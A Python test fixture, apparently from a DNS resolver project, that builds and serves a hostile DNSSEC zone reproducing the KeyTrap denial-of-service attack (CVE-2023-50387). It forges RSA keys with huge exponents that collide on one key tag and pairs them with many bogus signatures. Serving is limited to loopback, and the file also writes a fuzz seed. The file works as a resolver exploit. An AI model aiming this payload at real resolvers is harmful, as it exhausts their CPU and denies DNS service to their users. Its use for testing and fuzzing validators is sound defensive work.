#!/usr/bin/env python3
"""keytrap -- a hostile signed zone (CVE-2023-50387, "KeyTrap") and a DNS server that serves it.

The zone keytrap.test. answers `www.keytrap.test. A` with one A record and N_RRSIGS RRSIGs
(RSASHA256, one key tag, random signatures), and `keytrap.test. DNSKEY` with N_KEYS keys that all
carry that key tag, each an RSA key with an EXPONENT_LEN-octet public exponent and a 4096-bit
modulus. A validator that tries every RRSIG with every key of its tag (RFC 4035 5.3.1) does
N_RRSIGS * N_KEYS modular exponentiations with a 80,000-bit exponent: minutes of CPU.

Both answers (~11 KB and ~42 KB) are too large for UDP: over UDP they come truncated (TC=1, no
records), over TCP whole.
Everything else is REFUSED. The bytes are fixed (seeded), so the same pair is a fuzz seed.

As a library:
    srv = KeyTrapServer("127.0.0.63"); port = srv.start(); ...; srv.stop()
    answer, keys = messages(qid)         # the two messages
As a script:
    keytrap.py --host 127.0.0.63         prints {"host": ..., "port": ...}, serves until SIGTERM
    keytrap.py --seed FILE               writes the fuzz seed: 2-byte length, answer, DNSKEY answer

Python 3 standard library only. Only loopback addresses are accepted.
"""

import argparse
import ipaddress
import json
import random
import signal
import socket
import struct
import sys
import threading

ZONE = "keytrap.test."
QNAME = "www." + ZONE
N_RRSIGS = 20
N_KEYS = 4
EXPONENT_LEN = 10000       # octets: an 80,000-bit exponent
MODULUS_LEN = 512          # octets: 4096 bits, the largest RFC 3110 allows
ALGORITHM = 8              # RSASHA256
KEY_TAG = 4711
INCEPTION, EXPIRATION = 1700000000, 2000000000   # serial-number times around "now" until 2033
QR, AA, TC = 0x8000, 0x0400, 0x0200


def name_wire(name):
    out = b""
    for label in name.strip(".").split("."):
        if label:
            out += bytes([len(label)]) + label.encode()
    return out + b"\x00"


def key_tag(rdata):
    """RFC 4034 Appendix B."""
    ac = 0
    for i, b in enumerate(rdata):
        ac += b if i & 1 else b << 8
    ac += (ac >> 16) & 0xFFFF
    return ac & 0xFFFF


def colliding_key(rng, flags):
    """DNSKEY rdata of an RSA key with a huge exponent whose key tag is KEY_TAG: the last two
    octets of the modulus are chosen to make the checksum come out right."""
    exponent = bytes([rng.randrange(1, 256)]) + bytes(rng.randrange(256) for _ in range(EXPONENT_LEN - 1))
    modulus = bytes([0x80 | rng.randrange(128)]) + bytes(rng.randrange(256) for _ in range(MODULUS_LEN - 3))
    head = struct.pack(">HBB", flags, 3, ALGORITHM) + b"\x00" + struct.pack(">H", EXPONENT_LEN)
    body = head + exponent + modulus
    base = sum(b if i & 1 else b << 8 for i, b in enumerate(body))
    n = len(body)  # the two free octets sit at n and n + 1
    for x in range(256):
        for y in range(256):
            ac = base + (x if n & 1 else x << 8) + (y if (n + 1) & 1 else y << 8)
            if (ac + ((ac >> 16) & 0xFFFF)) & 0xFFFF == KEY_TAG:
                rdata = body + bytes([x, y])
                assert key_tag(rdata) == KEY_TAG
                return rdata
    raise RuntimeError("no colliding key")  # not reached: every tag is reachable


def _keys():
    rng = random.Random(50387)
    return [colliding_key(rng, 257 if i == 0 else 256) for i in range(N_KEYS)]


_KEYS = None


def _rr(owner, rtype, ttl, rdata):
    return owner + struct.pack(">HHIH", rtype, 1, ttl, len(rdata)) + rdata


def _rrsig(covered, labels, rng):
    fixed = struct.pack(">HBBIIIH", covered, ALGORITHM, labels, 300, EXPIRATION, INCEPTION, KEY_TAG)
    return fixed + name_wire(ZONE) + bytes(rng.randrange(256) for _ in range(MODULUS_LEN))


def _question(name, qtype):
    return name_wire(name) + struct.pack(">HH", qtype, 1)


def answer_message(qid):
    rng = random.Random(50868)
    q = _question(QNAME, 1)
    rrs = [_rr(b"\xc0\x0c", 1, 300, socket.inet_aton("192.0.2.1"))]
    rrs += [_rr(b"\xc0\x0c", 46, 300, _rrsig(1, 3, rng)) for _ in range(N_RRSIGS)]
    return struct.pack(">HHHHHH", qid, QR | AA, 1, len(rrs), 0, 0) + q + b"".join(rrs)


def keys_message(qid):
    global _KEYS
    if _KEYS is None:
        _KEYS = _keys()
    q = _question(ZONE, 48)
    rrs = [_rr(b"\xc0\x0c", 48, 300, k) for k in _KEYS]
    return struct.pack(">HHHHHH", qid, QR | AA, 1, len(rrs), 0, 0) + q + b"".join(rrs)


def messages(qid=0x4b54):
    return answer_message(qid), keys_message(qid)


def seed_bytes():
    """The fuzz corpus form (test/fuzz/corpus/dnssec): 2-byte length L, the answer, the keys."""
    a, k = messages()
    return struct.pack(">H", len(a)) + a + k


def _parse(pkt):
    if len(pkt) < 12:
        return None
    qid, _flags, qd = struct.unpack(">HHH", pkt[:6])
    if qd != 1:
        return None
    off, labels = 12, []
    while off < len(pkt) and pkt[off] != 0:
        n = pkt[off]
        if n > 63:
            return None
        labels.append(pkt[off + 1:off + 1 + n].decode("latin-1").lower())
        off += 1 + n
    if off + 5 > len(pkt):
        return None
    qtype = struct.unpack(">H", pkt[off + 1:off + 3])[0]
    return qid, ".".join(labels) + ".", qtype, pkt[12:off + 5]


def reply(pkt, tcp):
    q = _parse(pkt)
    if q is None:
        return None
    qid, qname, qtype, qsec = q
    if qname == QNAME and qtype == 1:
        r = answer_message(qid)
    elif qname == ZONE and qtype == 48:
        r = keys_message(qid)
    else:
        return struct.pack(">HHHHHH", qid, QR | 5, 1, 0, 0, 0) + qsec   # REFUSED
    if not tcp and len(r) > 1232:
        return struct.pack(">HHHHHH", qid, QR | AA | TC, 1, 0, 0, 0) + qsec
    return r


class KeyTrapServer:
    """UDP and TCP on one loopback port; one thread each side. Records (transport, qname, qtype)."""

    def __init__(self, host):
        if not ipaddress.ip_address(host).is_loopback:
            raise ValueError("keytrap binds loopback addresses only, not %s" % host)
        self.host = host
        self.family = socket.AF_INET6 if ":" in host else socket.AF_INET
        self.port = None
        self.queries = []
        self._lock = threading.Lock()
        self._stop = threading.Event()
        self._threads = []
        self._udp = self._tcp = None

    def start(self):
        keys_message(0)  # build the keys before the first query arrives
        for _ in range(50):
            u = socket.socket(self.family, socket.SOCK_DGRAM)
            u.bind((self.host, 0))
            t = socket.socket(self.family, socket.SOCK_STREAM)
            try:
                t.bind((self.host, u.getsockname()[1]))
            except OSError:
                u.close()
                t.close()
                continue
            t.listen(64)
            self._udp, self._tcp, self.port = u, t, u.getsockname()[1]
            break
        else:
            raise RuntimeError("no free UDP+TCP port pair on %s" % self.host)
        for s in (self._udp, self._tcp):
            s.settimeout(0.2)
        for fn in (self._serve_udp, self._serve_tcp):
            th = threading.Thread(target=fn, daemon=True)
            th.start()
            self._threads.append(th)
        return self.port

    def stop(self):
        self._stop.set()
        for th in self._threads:
            th.join(5)
        for s in (self._udp, self._tcp):
            if s is not None:
                s.close()

    def _note(self, tcp, pkt):
        q = _parse(pkt)
        with self._lock:
            self.queries.append(("tcp" if tcp else "udp", q[1] if q else None, q[2] if q else None))

    def _serve_udp(self):
        while not self._stop.is_set():
            try:
                pkt, addr = self._udp.recvfrom(65535)
            except (socket.timeout, OSError):
                continue
            self._note(False, pkt)
            r = reply(pkt, False)
            if r is not None:
                self._udp.sendto(r, addr)

    def _serve_tcp(self):
        while not self._stop.is_set():
            try:
                conn, _ = self._tcp.accept()
            except (socket.timeout, OSError):
                continue
            threading.Thread(target=self._conn, args=(conn,), daemon=True).start()

    def _conn(self, conn):
        conn.settimeout(5)
        try:
            buf = b""
            while len(buf) < 2 or len(buf) < 2 + struct.unpack(">H", buf[:2])[0]:
                data = conn.recv(65535)
                if not data:
                    return
                buf += data
            pkt = buf[2:2 + struct.unpack(">H", buf[:2])[0]]
            self._note(True, pkt)
            r = reply(pkt, True)
            if r is not None:
                conn.sendall(struct.pack(">H", len(r)) + r)
        except OSError:
            pass
        finally:
            conn.close()


def main(argv=None):
    ap = argparse.ArgumentParser(description="a KeyTrap zone served on a loopback address")
    ap.add_argument("--host", help="loopback address to bind, e.g. 127.0.0.63 or ::1")
    ap.add_argument("--seed", help="write the fuzz seed (length, answer, DNSKEY answer) here and exit")
    args = ap.parse_args(argv)
    if args.seed:
        with open(args.seed, "wb") as f:
            f.write(seed_bytes())
        return 0
    if not args.host:
        ap.error("--host or --seed is required")
    srv = KeyTrapServer(args.host)
    done = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: done.set())
    signal.signal(signal.SIGINT, lambda *_: done.set())
    print(json.dumps({"host": args.host, "port": srv.start()}), flush=True)
    try:
        done.wait()
    finally:
        srv.stop()
    return 0


if __name__ == "__main__":
    sys.exit(main())
